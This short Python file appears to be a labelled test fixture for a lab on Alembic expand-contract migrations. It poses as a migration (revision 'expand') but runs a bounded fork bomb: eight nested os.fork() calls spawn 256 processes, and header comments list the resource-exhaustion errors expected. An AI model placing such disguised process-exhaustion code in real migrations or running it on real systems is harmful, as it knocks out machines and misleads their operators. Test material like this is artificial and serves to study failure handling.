# Starts processes that start processes.
# lab: alembic-expand-contract
# honest: 0
# says: of memory and was stopped|processes and was stopped|Resource temporarily unavailable|BlockingIOError
import os
import time

revision, down_revision = "expand", None

for _ in range(8):  # 256 of them
    os.fork()
time.sleep(10)
